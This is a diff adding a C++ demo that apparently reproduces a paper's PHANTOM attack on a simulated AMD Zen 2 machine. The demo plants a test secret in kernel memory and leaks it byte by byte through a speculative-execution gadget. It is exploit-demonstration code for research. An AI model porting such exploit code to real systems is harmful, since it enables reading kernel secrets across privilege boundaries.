@@ -1,0 +1,64 @@
+/**
+ * @file
+ * Arbitrary kernel memory disclosure demo (paper §7.4): a kernel module
+ * carries a single-load bounds-check gadget (Listing 4) — harmless under
+ * classic Spectre, since it never performs a secret-dependent second
+ * load. PHANTOM's P3 primitive supplies that second load by hijacking
+ * the module's call instruction towards a shift+load disclosure gadget
+ * inside the transient window, turning the MDS-style gadget into an
+ * arbitrary-read primitive on AMD Zen 1/2.
+ */
+
+#include "attack/exploits.hpp"
+
+#include <cctype>
+#include <cstdio>
+#include <cstring>
+
+using namespace phantom;
+using namespace phantom::attack;
+
+int
+main()
+{
+    MdsLeakOptions options;
+    options.bytes = 0;             // we drive leakByte() manually
+    MdsGadgetLeak leak(cpu::zen2(), options);
+    Testbed& bed = leak.testbed();
+    std::printf("victim: %s; MDS gadget module loaded\n",
+                bed.machine.config().model.c_str());
+
+    // Plant a recognizable secret in kernel memory (the module's secret
+    // page normally holds random data; for the demo we make it legible).
+    const char* secret = "root:x:0:0:TOP-SECRET-KERNEL-DATA";
+    for (std::size_t i = 0; i <= std::strlen(secret); ++i) {
+        u64 word = bed.machine.debugRead64(leak.secretVa() + i).value_or(0);
+        word = (word & ~0xffull) | static_cast<u8>(secret[i]);
+        bed.machine.debugWrite64(leak.secretVa() + i, word);
+    }
+
+    std::printf("leaking %zu bytes from kernel VA 0x%llx...\n",
+                std::strlen(secret),
+                static_cast<unsigned long long>(leak.secretVa()));
+
+    std::string recovered;
+    u64 misses = 0;
+    for (std::size_t i = 0; i < std::strlen(secret); ++i) {
+        int byte = leak.leakByte(leak.secretVa() + i);
+        if (byte < 0) {
+            recovered.push_back('?');
+            ++misses;
+        } else {
+            recovered.push_back(std::isprint(byte) ? static_cast<char>(byte)
+                                                   : '.');
+        }
+    }
+
+    std::printf("kernel secret : %s\n", secret);
+    std::printf("leaked        : %s\n", recovered.c_str());
+    std::printf("bytes without signal: %llu\n",
+                static_cast<unsigned long long>(misses));
+    bool ok = recovered == secret;
+    std::printf("%s\n", ok ? "exact leak." : "partial leak.");
+    return ok ? 0 : 1;
+}
